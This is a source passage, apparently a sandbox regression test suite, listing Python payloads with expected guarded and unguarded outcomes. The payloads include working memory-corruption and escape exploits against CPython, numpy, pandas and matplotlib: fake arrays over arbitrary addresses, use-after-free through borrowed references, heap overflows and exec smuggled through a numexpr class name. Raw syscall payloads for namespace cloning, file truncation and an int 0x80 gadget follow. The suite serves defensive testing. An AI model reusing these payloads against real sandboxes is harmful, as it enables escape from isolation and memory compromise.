    # refused
    Payload("update-wrapper-makes-library-class-own", """
        import functools
        import pandas as pd
        def f():
            pass
        def main():
            base = pd.api.extensions.ExtensionArray
            try:
                functools.update_wrapper(base, f)
            except Exception:
                pass
            class A(base):
                pass
            return "derived"
        """, on={GUARD}, off={OK}),
    # review 53: a str subclass of the code's answered the name checks with
    # its own startswith(), and with its own __hash__/__eq__ a namespace key
    # ("harmless") was found as "__array_interface__": numpy made an array
    # over any address, the real builtins were reached from a function's
    # __builtins__ (the OS layers held).  A str subclass may not redefine
    # str's methods, and the names that are checked are passed on as exact
    # strs.  Off, the checks are not there: the array is made (OK).
    Payload("str-subclass-startswith-array-interface", """
        import dataclasses
        import numpy as np
        class S(str):
            def startswith(self, *a, **k):
                return False
        def main():
            target = b"HELLO-SANDBOX"
            iface = {"shape": (2,), "typestr": "<u8", "data": (id(target), False), "version": 3}
            Y = dataclasses.make_dataclass("Y", ["a"], namespace={S("__array_interface__"): iface})
            return [int(v) for v in np.asarray(Y(0))]
        """, on={GUARD}, off={OK}),
    Payload("str-subclass-hash-eq-array-interface", """
        import dataclasses
        import numpy as np
        class H(str):
            def __hash__(self):
                return hash("__array_interface__")
            def __eq__(self, other):
                return True
        def main():
            target = b"HELLO-SANDBOX"
            iface = {"shape": (2,), "typestr": "<u8", "data": (id(target), False), "version": 3}
            Y = dataclasses.make_dataclass("Y", ["a"], namespace={H("harmless"): iface})
            return str(np.asarray(Y(0)).dtype)
        """, on={GUARD}, off={OK}),
    Payload("str-subclass-instance-method-shadow", """
        import matplotlib.pyplot as plt
        class S(str):
            pass
        def main():
            name = S("agg")
            name.lower = lambda: "agg"
            plt.switch_backend(name)
            return "switched"
        """, on={GUARD}, off={OK, EXCEPTION}),
    # review 54: a key need not be a str (its own __hash__/__eq__ find it as
    # "__array_interface__" all the same), and a mixin gave a str subclass
    # its split() / __eq__ past the check of str subclasses' own methods
    Payload("non-str-namespace-key-array-interface", """
        import dataclasses
        import numpy as np
        class K:
            def __hash__(self):
                return hash("__array_interface__")
            def __eq__(self, other):
                return True
        def main():
            target = b"HELLO-SANDBOX"
            iface = {"shape": (2,), "typestr": "<u8", "data": (id(target), False), "version": 3}
            Y = dataclasses.make_dataclass("Y", ["a"], namespace={K(): iface})
            return str(np.asarray(Y(0)).dtype)
        """, on={GUARD}, off={OK}),
    Payload("non-str-enum-member-array-interface", """
        import enum
        import numpy as np
        class K:
            def __hash__(self):
                return hash("__array_interface__")
            def __eq__(self, other):
                return other == "__array_interface__"
            def __len__(self):
                return 19
            def __getitem__(self, i):
                return "__" if isinstance(i, slice) else "x"
        def main():
            target = b"HELLO-SANDBOX"
            iface = {"shape": (2,), "typestr": "<u8", "data": (id(target), False), "version": 3}
            E = enum.Enum("E", [(K(), iface), ("A", 1)])
            return str(np.asarray(E.A).dtype)
        """, on={GUARD}, off={OK, EXCEPTION}),
    Payload("str-mixin-attrgetter-globals", """
        import operator
        import textwrap
        class M:
            def split(self, sep=None, maxsplit=-1):
                return ["harmless"]
        class H(M, str):
            pass
        def main():
            ag = getattr(operator, "attr" + "getter")
            g = ag(H("__globals__"))(textwrap.dedent)
            return sorted(g)[:3]
        """, on={GUARD}, off={OK}),
    # review 55: cached_property stored its value under a name that was not a
    # str at all; make_dataclass(bases=(str,)) built a str subclass with its
    # own startswith() past the class statement's check
    Payload("cached-property-non-str-name-array-interface", """
        import functools
        import numpy as np
        class K:
            def __hash__(self):
                return hash("__array_interface__")
            def __eq__(self, other):
                return True
        def main():
            target = b"HELLO-SANDBOX"
            iface = {"shape": (2,), "typestr": "<u8", "data": (id(target), False), "version": 3}
            cp = functools.cached_property(lambda self: iface)
            class C:
                x = cp
            cp.attrname = K()
            c = C()
            c.x
            return str(np.asarray(c).dtype)
        """, on={GUARD}, off={OK}),
    # the class of reviews 53-55, closed where keys are compared: an object
    # of the code's never equals a reserved name, so a key of its own hash
    # and __eq__ is not found as one in any namespace a library keeps
    Payload("own-class-equal-to-reserved-name", """
        class K:
            def __hash__(self):
                return hash("__array_interface__")
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
        def main():
            k = K()
            found = [k == "__array_interface__", "__array_interface__" == k,
                     {k: 1}.get("__array_interface__"), "__array_struct__" in [k],
                     not (k != "__array_interface__")]
            if any(v not in (False, None) for v in found):
                return found
            raise LookupError("not found: %r; k == 'x' is %r" % (found, k == "x"))
        """, on={EXCEPTION}, off={OK}),
    # review 55 F3: pipe((func, "name")) passes the data as the keyword named,
    # which pandas writes into its own kwargs past f(**mapping)'s check
    Payload("pipe-tuple-reserved-keyword", """
        import pandas as pd
        def kw(**k):
            return sorted(k)
        def main():
            return pd.DataFrame({"a": [1]}).pipe((kw, "__array_interface__"))
        """, on={GUARD}, off={OK}),
    # review 56: library objects answering attribute lookups, or filling a
    # namespace, from what the code controls; a type name pasted into the
    # text numexpr eval()s with the real builtins
    Payload("bagobj-getitem-array-interface", """
        import numpy as np
        class D:
            def __init__(self, table):
                self.table = table
            def __getitem__(self, key):
                return self.table[key]
        def main():
            target = b"HELLO-SANDBOX"
            d = D({"__array" + "_interface__": {"shape": (2,), "typestr": "<u8",
                                                "data": (id(target), False), "version": 3}})
            return [int(v) for v in np.asarray(np.lib.npyio.BagObj(d))]
        """, on={GUARD}, off={OK}),
    Payload("spines-dict-array-interface", """
        import numpy as np
        import matplotlib.spines
        def main():
            target = b"HELLO-SANDBOX"
            sp = matplotlib.spines.Spines()
            sp["__array" + "_interface__"] = {"shape": (2,), "typestr": "<u8",
                                              "data": (id(target), False), "version": 3}
            return [int(v) for v in np.asarray(sp)]
        """, on={EXCEPTION}, off={OK}),
    Payload("masked-optinfo-deepcopy-memo", """
        import copy
        import numpy as np
        got = []
        def dc(memo):
            got.append(memo)
        class O:
            def __init__(self):
                self._optinfo = {"__deep" + "copy__": dc}
                self._data = np.arange(3.0)
        def main():
            m = np.ma.sqrt(O())
            copy.deepcopy([m])
            if not got:
                raise LookupError("the memo was not handed out")
            return len(got[0])
        """, on={EXCEPTION}, off={OK}),
    Payload("update-wrapper-class-namespace-environment", """
        import functools
        import pandas as pd
        class W:
            pass
        def main():
            w = W()
            functools.update_wrapper(w, pd.io.formats.style_render.StylerRenderer)
            return type(w.env).__name__
        """, on={GUARD}, off={OK, EXCEPTION}),
    Payload("numexpr-type-name-exec", """
        import dataclasses
        import numpy as np
        import pandas as pd
        def main():
            name = "1 if (lambda: exec)()('raise ZeroDivisionError(7)') else a"
            C = dataclasses.make_dataclass(
                name, [("dtype", object, dataclasses.field(default=np.dtype("float64")))])
            def f():
                return C()
            try:
                return str(pd.eval("f() + 1", local_dict={"f": f}, engine="numexpr"))
            except ZeroDivisionError:
                return "exec ran"
        """, on={EXCEPTION}, off={OK, EXCEPTION}),
    # review 59: a pandas helper returning any module by name; keywords that
    # begin with "__" passed on by a library (a picker's props) or a partial's
    # own dict into PickEvent's attributes; an instance's attributes copied
    # raw (a copied Styler's jinja2 Templates); functions that open files by
    # name under an allowed module; lru_cache copying a class's namespace
    Payload("import-optional-dependency-builtins", """
        import pandas.io.parquet as pq
        def main():
            return repr(pq.import_optional_dependency("builtins").eval)
        """, on={GUARD}, off={OK}),
    Payload("picker-props-dunder-keyword-pick-event", """
        import numpy as np
        import matplotlib.pyplot as plt
        from matplotlib.backend_bases import MouseEvent
        got = []
        def main():
            target = b"HELLO-SANDBOX"
            iface = {"shape": (2,), "typestr": "<u8", "data": (id(target), False), "version": 3}
            fig, ax = plt.subplots()
            line, = ax.plot([0, 1], [0, 1])
            line.set_picker(lambda artist, event: (True, {"__array" + "_interface__": iface}))
            fig.canvas.mpl_connect("pick_event", got.append)
            line.pick(MouseEvent("button_press_event", fig.canvas, 10, 10))
            return [int(v) for v in np.asarray(got[0])]
        """, on={GUARD}, off={OK}),
    Payload("partial-keywords-dict-dunder-keyword", """
        import functools
        def kw(**k):
            return sorted(k)
        def main():
            make = functools.partial(kw)
            make.keywords["__array" + "_interface__"] = 1
            return make()
        """, on={GUARD}, off={OK}),
    Payload("update-wrapper-copied-styler-templates", """
        import copy
        import functools
        import pandas as pd
        class W:
            pass
        def main():
            styler = copy.copy(pd.DataFrame({"a": [1]}).style)
            w = W()
            functools.update_wrapper(w, styler)
            return type(w.template_html.environment).__name__
        """, on={GUARD}, off={OK, EXCEPTION}),
    Payload("get-handle-opens-file-by-name", """
        import pandas.io.html as h
        def main():
            with h.get_handle("/usr/lib/python3.11/os.py", "r") as f:
                return f.handle.read(20)
        """, on={GUARD}, off={OK, EXCEPTION, DENIED}),
    Payload("lru-cache-library-class-namespace", """
        import functools
        import pandas as pd
        def main():
            d = functools.lru_cache(None)(pd.io.formats.style_render.StylerRenderer)
            return sorted(k for k in dir(d) if k.startswith("template"))
        """, on={GUARD}, off={OK}),
    # review 61: pandas' python-engine eval reads an attribute in pandas' own
    # frame (the Styler's jinja2 templates, their environment's real
    # builtins); a partialmethod's writable keywords built a real partial
    Payload("pd-eval-python-engine-styler-template", """
        import pandas as pd
        def main():
            R = pd.io.formats.style_render.StylerRenderer
            t = pd.eval("R.template_html", local_dict={"R": R}, engine="python")
            return type(t.environment).__name__
        """, on={GUARD}, off={OK}),
    Payload("partialmethod-keywords-dict-dunder-keyword", """
        import functools
        class C:
            pass
        def kw(**k):
            return sorted(k)
        def main():
            pm = functools.partialmethod(staticmethod(kw))
            pm.keywords["__array" + "_interface__"] = 1
            C.m = pm
            return C().m()
        """, on={GUARD, EXCEPTION}, off={OK}),
    # review 60: a dtype-like object answering the checks and numpy
    # differently; setflags(uic=False) freeing a view's owner; comparisons
    # CPython makes on an item it only borrows, reached through a library
    # __eq__ that runs the code (ipaddress); an array's dtype set in place
    # under pandas' mask
    Payload("ndarray-dtype-property-object-array", """
        import numpy as np
        class D:
            def __init__(self):
                self.calls = 0
            @property
            def dtype(self):
                self.calls += 1
                return np.dtype("u8") if self.calls <= 2 else np.dtype("O")
        def main():
            marker = ["only by address"]
            buf = bytearray(id(marker).to_bytes(8, "little"))
            a = np.ndarray((1,), dtype=D(), buffer=buf)
            if a.dtype.hasobject and a[0] is marker:
                return "an object array over the code's bytes"
            raise LookupError("numpy got the dtype that was checked")
        """, on={EXCEPTION, GUARD}, off={OK, EXCEPTION}),
    Payload("setflags-uic-frees-view-owner", """
        import numpy as np
        def main():
            view = np.zeros(4, dtype="u8")[:]
            view.setflags(uic=False)
            return view.base is None
        """, on={GUARD}, off={OK}),
    Payload("flags-writebackifcopy-frees-view-owner", """
        import numpy as np
        def main():
            view = np.zeros(4, dtype="u8")[:]
            view.flags.writebackifcopy = False
            return view.base is None
        """, on={GUARD}, off={OK}),
    Payload("iter-sentinel-ipaddress-eq-runs-code", """
        import ipaddress
        seen = []
        IT = [None]
        results = []
        class Z:
            @property
            def _ip(self):
                seen.append("the library ran the code's property mid-comparison")
                try:
                    next(IT[0])
                except StopIteration:
                    pass
                raise AttributeError("no _ip")
        def f():
            return results.pop()
        def main():
            s = ipaddress.IPv4Address("1.2.3.4")
            results.extend([s, Z()])
            IT[0] = iter(f, s)
            del s
            try:
                next(IT[0])
            except Exception:
                pass
            if seen:
                return seen
            raise LookupError("the comparison ran none of the code")
        """, on={EXCEPTION, VALIDATOR}, off={OK, CRASH, EXCEPTION, VALIDATOR}),
    Payload("integer-array-values-dtype-in-place", """
        import numpy as np
        import pandas as pd
        def main():
            values = np.zeros(16, dtype=np.int64)
            mask = np.zeros(16, dtype=bool)
            arr = pd.arrays.IntegerArray(values, mask, copy=False)
            values.dtype = np.int8
            return len(pd.Series(arr).unique())
        """, on={GUARD}, off={OK, CRASH}),
    # review 62: list's ordering comparison borrows the items it compares
    # last (gh-120298); numpy's comparison ran the code, which emptied the
    # list, and returned NotImplemented: the code's reflected method got
    # the freed array, refilled by a bytearray's buffer (a fake list)
    borrowed_array_payload("list-ordering-borrowed-numpy-array", "holder[0].clear()", """
            holder[0] = [np.array(["abc"])]
            try:
                holder[0] < [Z()]
            except Exception:
                pass"""),
    # review 63: argsort (and argpartition, searchsorted, lexsort) of an
    # array of Python objects compare its elements without references, as
    # sort did: the code emptied the array's slot while numpy's comparison
    # of a string array ran, and got the freed array back
    borrowed_array_payload("object-argsort-borrowed-numpy-array", "holder[0][1] = None", """
            arr = np.empty(2, dtype=object)
            arr[0] = Z()
            arr[1] = np.array(["abc"])
            holder[0] = arr
            try:
                arr.argsort(kind="quicksort")
            except Exception:
                pass"""),
    # review 70: numpy.ma's factories look a function up by name on the
    # real numpy module, which held the unchecked lexsort: review 63's
    # freed array again
    borrowed_array_payload("ma-factory-lexsort-borrowed-numpy-array", "holder[0][0] = None", """
            lexsort = type(np.ma.arange)("lexsort", "", "")
            arr = np.empty(2, dtype=object)
            arr[1] = Z()
            arr[0] = np.array(["abc"])
            holder[0] = arr
            try:
                lexsort([arr])
            except Exception:
                pass"""),
    # review 70 F3: a class of the code's given another module's name (by
    # update_wrapper or namedtuple(module=)) counted as a library's, and a
    # str subclass mixing it in kept a startswith() that lies
    Payload("code-class-takes-library-module", """
        import collections
        import functools
        import json
        def main():
            made = []
            class Lying:
                def startswith(self, *args):
                    return False
            try:
                functools.update_wrapper(Lying, json.dumps, updated=())
            except TypeError:
                pass
            bases = [Lying]
            try:
                N = collections.namedtuple("N", "a", module="json")
                class LyingN(N):
                    def startswith(self, *args):
                        return False
                bases.append(LyingN)
            except TypeError:
                pass
            for base in bases:
                try:
                    class Text(base, str):
                        pass
                    text = Text("__x")
                    made.append(text.startswith("__") is False)
                except Exception:
                    pass
            if any(made):
                return "a lying str subclass was made"
            raise LookupError("the code's classes kept their module")
        """, on={EXCEPTION}, off={OK, EXCEPTION}),
    # review 64: cmp_to_key's key compares its .obj without a reference,
    # and .obj may be set: the code dropped the array while numpy's
    # comparison ran, and got the freed array back
    borrowed_array_payload("cmp-to-key-borrowed-numpy-array", "holder[0].obj = None", """
            K = functools.cmp_to_key(operator.lt)
            holder[0] = K(np.array(["abc"]))
            other = K(Z())
            try:
                holder[0] < other
            except Exception:
                pass"""),
    # ... and defaultdict's __missing__ calls its default_factory without a
    # reference: a factory that drops itself while it runs frees what it
    # runs (plain CPython 3.11.2 crashes; in a call __missing__ holds it)
    Payload("defaultdict-factory-drops-itself", """
        import collections
        import functools
        DD = []
        SPRAY = []
        def pred(x):
            if x == 1:
                DD[0].default_factory = None
                for _ in range(1000):
                    SPRAY.append(bytearray(47))
            return False
        def main():
            dd = collections.defaultdict(int)
            DD.append(dd)
            dd.default_factory = functools.partial(next, filter(pred, iter([1, 2, 3])), "END")
            value = dd["k"]
            if value != "END" or dd.default_factory is not None:
                raise LookupError("the factory ran on after it was dropped: %r" % (value,))
            return value
        """, on={OK}, off={OK, CRASH}),
    # gh-123378: UnicodeDecodeError's str() read the byte at its start,
    # unchecked: any byte at a chosen distance from a bytes object, or an
    # object of another type read as bytes
    Payload("unicode-error-start-reads-memory", """
        def main():
            shown = []
            e = UnicodeDecodeError("utf-8", b"abc", -4096, -4095, "r")
            shown.append(str(e))
            e = UnicodeDecodeError("utf-8", b"abc", 0, 1, "r")
            e.object = 12345
            shown.append(str(e))
            e.object = b"abc"
            e.start = 1 << 40
            e.end = e.start + 1
            shown.append(str(e))
            if any("byte 0x" in text for text in shown):
                return "read memory: %r" % (shown,)
            raise LookupError("no byte read: %r" % (shown,))
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 67 N1: numpy's products of object arrays read elements without
    # a reference; in a call they work on private copies, so what the
    # code's __mul__ puts in the array meanwhile is not multiplied
    Payload("object-products-on-private-copies", """
        import numpy as np
        HOLDER = [None]
        class X:
            def __init__(self, v):
                self.v = v
            def __mul__(self, other):
                if HOLDER[0] is not None:
                    HOLDER[0][1] = 5
                return self.v * other
            def conjugate(self):
                return self
        def main():
            got = []
            for product in (np.dot, np.inner, np.vdot, np.matmul, lambda a, b: a.dot(b),
                            lambda a, b: a @ b,
                            # numpy's own callers of its dot (review 72)
                            lambda a, b: np.tensordot(a, b, 1),
                            lambda a, b: np.linalg.multi_dot([a.reshape(1, 2),
                                                              b.reshape(2, 1)])[0, 0]):
                a = np.array([X(1), X(2)], dtype=object)
                HOLDER[0] = a
                got.append(int(product(a, np.array([3, 3], dtype=object))))
                HOLDER[0] = None
            if got != [9] * 8:
                raise LookupError("the products read the array the code changed: %r" % got)
            return got
        """, on={OK}, off={OK, EXCEPTION}),
    # review 68 F1: str() of the reason ran the code (a Series formatted by
    # its float_format), which moved start after the check and before
    # CPython's own __str__ read the byte
    Payload("unicode-error-reason-moves-start", """
        import pandas as pd
        def main():
            shown = []
            for d in (8, 16, 24):
                e = UnicodeDecodeError("utf-8", b"abcdefgh", 0, 1, "r")
                def moved(x, e=e, d=d):
                    e.start = -d
                    e.end = -d + 1
                    return "%.1f" % x
                pd.set_option("display.float_format", moved)
                e.reason = pd.Series([1.5])
                shown.append(str(e))
            if any("byte 0x" in text for text in shown):
                return "read memory: %r" % (shown,)
            raise LookupError("no byte read: %r" % (shown,))
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 73: a class of the code's inherited conversions written in
    # Python (numbers.Integral's __index__ is int(self), Fraction's __int__
    # computes with a numerator a property of the code's gave), so the
    # code ran inside bytearray's item assignment, which then wrote through
    # its freed buffer (gh-91153): a bytearray over all memory
    fraction_index_payload("fraction-index-writes-through-freed-bytearray", """
        def main():
            big = 0x7ffffffffffffff0
            payload = bytearray(struct.pack("<qqqq", big, big + 1, 0, 0)[::-1])
            ba = bytearray(b"a" * 56)
            STATE["ba"] = ba
            STATE["grow"] = 200000
            start = index_running_code(47)
            STATE["armed"] = True
            try:
                ba[start:15:-1] = payload
            except Exception:
                pass
            if any(len(v) == big for v in STATE["victims"]):
                return "a bytearray over all memory"
            raise LookupError("no bytearray over memory: %r" % ([len(v) for v in STATE["victims"]],))
        """),
    # ... and bytearray's searches read the freed buffer (gh-142558..60)
    fraction_index_payload("fraction-index-count-reads-freed-bytearray", """
        def main():
            ba = bytearray(b"a" * 4000)
            STATE["ba"] = ba
            STATE["grow"] = 0
            i = index_running_code(97)
            STATE["armed"] = True
            found = ba.count(i)
            if found:
                return "counted %d bytes of a freed buffer" % found
            raise LookupError("the emptied bytearray counted nothing")
        """),
    # ... a plain Fraction kept the numerator of a Rational the code
    # registered (or a float subclass's as_integer_ratio()), and its
    # __int__ ran the code's // ("%d" % f, math.floor, any int conversion)
    Payload("fraction-of-registered-rational-runs-code", """
        import fractions
        import numbers
        CALLS = []
        class N:
            def __init__(self, v):
                self.v = v
            def __lt__(self, o):
                return self.v < o
            def __floordiv__(self, o):
                CALLS.append("floordiv")
                return self.v // o
        class Reg:
            denominator = 1
            def __init__(self, v):
                self.numerator = N(v)
        class F(float):
            def as_integer_ratio(self):
                return (N(3), 1)
        def main():
            numbers.Rational.register(Reg)
            shown = ["%d" % fractions.Fraction(F(1.5))]
            # the code's classes are no Rationals (gh-148382): a TypeError
            shown.append("%d" % fractions.Fraction(Reg(7)))
            if CALLS:
                return "the code ran inside int(): %r %r" % (CALLS, shown)
            raise LookupError("no call: %r" % shown)
        """, on=PYLAYER, off={OK, VALIDATOR, EXCEPTION}),
    # review 76 (gh-120384, fixed upstream in 3.12 only): a list's
    # extended slice assignment worked out the slice, then ran the code's
    # __iter__, which shrank the list: the items went past the end of its
    # array (a fake bytearray, then the real builtins)
    Payload("list-extended-slice-iter-shrinks-list", """
        class Evil:
            def __init__(self, lst):
                self.lst = lst
            def __iter__(self):
                yield from self.lst
                self.lst.clear()
        def main():
            lst = list(range(10))
            lst[::-1] = Evil(lst)
            return repr(lst)[:200]
        """, on={EXCEPTION}, off={CRASH, OK, EXCEPTION}),
    Payload("list-extended-slice-fake-bytearray", """
        class Evil:
            def __init__(self, lst, n, spray, proto):
                self.lst = lst
                self.n = n
                self.spray = spray
                self.proto = proto
            def __iter__(self):
                yield bytearray
                del self.lst[self.n:]
                for i in range(64):
                    self.spray.append(bytes(self.proto))
        def main():
            victim = bytearray(8)
            proto = bytearray(180)
            proto[8:16] = id(victim).to_bytes(8, "little")
            pre = [bytes(180) for i in range(3000)]
            lst = [0] * 64
            spray = []
            lst[29:30:2] = Evil(lst, 20, spray, proto)
            found = [x for x in spray if isinstance(x, bytearray)]
            if found:
                return "a bytes object became a bytearray: %d" % len(found)
            raise LookupError("no fake bytearray (%d)" % len(pre))
        """, on={EXCEPTION}, off={CRASH, OK, EXCEPTION}),
    # review 78: ZoneInfo's utcoffset(), dst() and tzname() of anything
    # but a datetime read its "fold" byte past the object, as an index
    # (gh-111306/gh-125318, open upstream): a read of any address, or SIGSEGV
    Payload("zoneinfo-fold-of-a-bytes-subclass", """
        import zoneinfo
        class D(bytes):
            def toordinal(self):
                return 738000
            hour = 0
            minute = 0
            second = 0
        def main():
            tz = zoneinfo.ZoneInfo("America/New_York")
            return [tz.tzname(D(bytes([0, 0, 0, f]) + bytes(12))) for f in (0, 1, 2, 3, 4, 12, 200)]
        """, on=PYLAYER, off={CRASH, OK, VALIDATOR}),
    # ... memoryview's hash called its exporter's __hash__, which released
    # the view and emptied the bytearray, then hashed the freed buffer
    # (gh-142664)
    Payload("memoryview-hash-freed-buffer", """
        STATE = {}
        class Evil(bytearray):
            def __hash__(self):
                STATE["mv"].release()
                self.clear()
                return 123
        def main():
            out = []
            for n in (64, 4096, 1 << 20, 64 << 20):
                data = Evil(b"A" * n)
                mv = memoryview(data).toreadonly()
                STATE["mv"] = mv
                out.append(hash(mv) == hash(b"A" * n))
            return "hashed released views: %r" % out
        """, on={EXCEPTION}, off={CRASH, OK}),
    # ... bytearray.extend() took a length hint of 0 (the code's __len__):
    # the first byte went into the shared empty buffer, and the result began
    # with a stale heap byte (gh-143003)
    Payload("bytearray-extend-zero-length-hint", """
        class X:
            def __len__(self):
                return 0
            def __iter__(self):
                return iter([49, 50, 51])
        def main():
            seen = []
            for _ in range(20):
                b = bytearray()
                b.extend(X())
                seen.append(list(b))
            if any(s != [49, 50, 51] for s in seen):
                return "stale bytes: %r" % [s for s in seen if s != [49, 50, 51]][:3]
            raise LookupError("extended as given: %r" % seen[0])
        """, on={EXCEPTION}, off={OK, EXCEPTION}),
    # review 80: except* trusts an exception group's split() to give a
    # tuple (gh-128049: a bytes object's bytes were read as an object
    # pointer); except* is refused, and a class overriding split() too
    Payload("exception-group-split-returns-bytes", """
        class G(ExceptionGroup):
            def split(self, condition):
                return b"A" * 16
        def main():
            g = G("x", [ValueError(1)])
            return type(g.split(ValueError)).__name__
        """, on={GUARD}, off={OK}),
    # ... bytearray.hex(sep) read the buffer after the separator's
    # __len__ (gh-143195); a str subclass may define no __len__, and hex
    # reads a copy in a call
    Payload("bytearray-hex-separator-empties-it", """
        B = []
        class S(str):
            def __len__(self):
                B[0].clear()
                return 1
        def main():
            B.append(bytearray(b"A" * 4096))
            return B[0].hex(S("-"))[:64]
        """, on=PYLAYER, off={OK, EXCEPTION, CRASH}),
    # review 82: pandas' JSON decoder in numpy mode kept nested arrays'
    # shapes in 32 slots and wrote a 33rd level past them (a count over
    # the next heap block's refcount: a fake bytearray over all memory)
    Payload("pandas-json-numpy-33-levels", """
        import pandas as pd
        def main():
            out = []
            for depth in (33, 40, 64):
                try:
                    pd.io.json.loads("[" * depth + "1" + "]" * depth, numpy=True)
                except ValueError as e:
                    out.append(str(e)[:40])
            return "decoded past its shapes: %r" % out
        """, on=PYLAYER, off={OK, CRASH, EXCEPTION}),
    # ... its encoder wrote indent x depth spaces without making room
    # (to_json(indent=6000) smashed the stack)
    Payload("pandas-to-json-huge-indent", """
        import pandas as pd
        def main():
            df = pd.DataFrame({"a": [1, 2], "b": ["x", "y"]})
            return len(df.to_json(indent=6000))
        """, on={EXCEPTION}, off={OK, CRASH}),
    # ... explode counted len() of each list-like, then wrote list() of it
    # past the slots when __iter__ gave more (a heap overflow)
    Payload("pandas-explode-lying-len", """
        import pandas as pd
        class Tags:
            def __init__(self, n):
                self.n = n
            def __len__(self):
                return 1
            def __iter__(self):
                return iter(range(self.n))
        def main():
            df = pd.DataFrame({"id": [1, 2], "tags": [Tags(100000), ["a"]]})
            n = len(df.explode("tags"))
            if n != 100001:
                raise LookupError("exploded %d rows" % n)
            return n
        """, on={OK}, off={OK, CRASH}),
    # ... a read_csv converter read from its own reader, which moved the
    # parser's buffers under the converter's caller
    Payload("read-csv-converter-reads-its-reader", """
        import io
        import pandas as pd
        STATE = {"reader": None, "depth": 0, "seen": []}
        def conv(x):
            if STATE["depth"] == 0 and len(STATE["seen"]) == 2:
                STATE["depth"] = 1
                try:
                    for k in range(20):
                        STATE["reader"].get_chunk(50)
                except StopIteration:
                    pass
            STATE["seen"].append(x)
            return x
        def main():
            data = "a,b\\n" + "".join("%s,%d\\n" % ("w%05d" % i * 3, i) for i in range(3000))
            reader = pd.read_csv(io.StringIO(data), converters={"a": conv}, chunksize=100)
            STATE["reader"] = reader
            first = reader.get_chunk(100)
            return [len(STATE["seen"]), list(first["a"][:8])]
        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    # review 84: the numpy flag's truth was checked, the C code reads its
    # number (an int subclass whose __bool__ said False)
    Payload("pandas-json-numpy-flag-lies", """
        import pandas as pd
        class B(int):
            def __bool__(self):
                return False
        def main():
            r = pd.io.json.loads("[[1,2],[3,4]]", numpy=B(1))
            return "numpy mode: %s" % type(r).__name__
        """, on=PYLAYER, off={OK}),
    # ... an __iter__ property that answered differently each time: no
    # list-like to the check, one to pandas (a heap overflow)
    Payload("pandas-explode-iter-property-flips", """
        import pandas as pd
        class Evil:
            calls = 0
            @property
            def __iter__(self):
                Evil.calls += 1
                if Evil.calls == 1:
                    return None
                return lambda: iter(range(200000))
            def __len__(self):
                return 1
        def main():
            r = pd.Series([Evil(), 1, 2]).explode()
            return [len(r), Evil.calls]
        """, on={OK, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    # ... a converter closed its own reader, which freed the parser's
    # buffers under the converter's caller (heap bytes came back)
    Payload("read-csv-converter-closes-its-reader", """
        import io
        import pandas as pd
        BOX = {"seen": []}
        def conv(v):
            r = BOX.get("r")
            if r is not None and not BOX.get("done"):
                BOX["done"] = True
                r.close()
                BOX["junk"] = [bytearray(b"Z" * 40) for _ in range(200)]
            BOX["seen"].append(v)
            return v
        def main():
            data = "a,b\\n" + "".join("%d,%s\\n" % (i, "v%03d" % i) for i in range(60))
            reader = pd.read_csv(io.StringIO(data), chunksize=30, converters={"b": conv})
            BOX["r"] = reader
            try:
                for chunk in reader:
                    break
            except RuntimeError:
                raise                   # refused: the reader is reading
            except Exception as e:
                return "the parser's freed buffers: %r" % (e,)
            return "converted after its reader closed: %r" % (BOX["seen"][:5],)
        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("make-dataclass-str-base-own-startswith", """
        import dataclasses
        def main():
            S = dataclasses.make_dataclass("S", [], bases=(str,),
                                           namespace={"startswith": lambda self, *a: False})
            return S("__x").startswith("__")
        """, on={GUARD}, off={OK, EXCEPTION}),
    Payload("str-mixin-update-wrapper-globals", """
        import functools
        import textwrap
        class M:
            def __eq__(self, other):
                return True
            def __hash__(self):
                return hash(str(self))
        class H(M, str):
            pass
        class W:
            pass
        def main():
            w = W()
            functools.update_wrapper(w, textwrap.dedent,
                                     assigned=(H("__globals__"),), updated=())
            return "copied"
        """, on={GUARD}, off={OK}),
]

# Raw system calls the allowlist must refuse (or answer with ENOSYS).
SYSCALL_PAYLOADS = [
    syscall_payload("syscall-clone-new-namespaces", "clone",
                    "%d, 0, 0, 0, 0" % (CLONE_NEWUSER | CLONE_NEWNET | CLONE_NEWNS | 17)),
    syscall_payload("syscall-clone-thread-with-newnet", "clone",
                    "%d, 0, 0, 0, 0" % (CLONE_VM | CLONE_SIGHAND | CLONE_THREAD | CLONE_NEWNET)),
    syscall_payload("syscall-clone3", "clone3",
                    "(ctypes.c_uint64 * 11)(%d), 88" % (CLONE_NEWUSER | CLONE_NEWNET),
                    off={DENIED, SECCOMP}),
    syscall_payload("syscall-openat-trunc-canary", "openat",
                    "-100, canary_tmp.encode(), %d" % (O_WRONLY | O_TRUNC),
                    params="canary_tmp"),
    syscall_payload("syscall-openat-rdonly-trunc-canary", "openat",
                    "-100, canary_data.encode(), %d" % O_TRUNC,
                    params="canary_data"),
    syscall_payload("syscall-openat-creat-write-dir", "openat",
                    "-100, (write_dir + '/pwned-openat').encode(), %d, 0o666"
                    % (O_RDWR | O_CREAT), params="write_dir"),
    syscall_payload("syscall-open-creat-write-dir", "open",
                    "(write_dir + '/pwned-open').encode(), %d, 0o666"
                    % (O_WRONLY | O_CREAT), params="write_dir"),
    syscall_payload("syscall-openat-x32-abi", "openat",
                    "-100, canary_tmp.encode(), 0", params="canary_tmp")
    if NR.get("x32_offset") is None else ctypes_payload(
        "syscall-openat-x32-abi",
        "return check(libc.syscall(%d, -100, canary_tmp.encode(), 0), 'x32 openat')"
        % (NR["x32_offset"] + 257), params="canary_tmp"),
    # the i386 ABI: execute an existing "int 0x80" (cd 80) found in libc's
    # executable segment (new executable memory is refused), with eax = 5,
    # i386 open, and ebx pointing at the canary path
    ctypes_payload("int80-i386-open-canary", """
        import struct
        class DlInfo(ctypes.Structure):
            _fields_ = [("fname", ctypes.c_char_p), ("fbase", ctypes.c_void_p),
                        ("sname", ctypes.c_char_p), ("saddr", ctypes.c_void_p)]
        info = DlInfo()
        fn = ctypes.cast(libc.syscall, ctypes.c_void_p)
        if not libc.dladdr(fn, ctypes.byref(info)):
            raise RuntimeError("dladdr failed")
        base = info.fbase
        ehdr = ctypes.string_at(base, 64)
        phoff = struct.unpack_from("<Q", ehdr, 32)[0]
        phentsize, phnum = struct.unpack_from("<HH", ehdr, 54)
        for i in range(phnum):
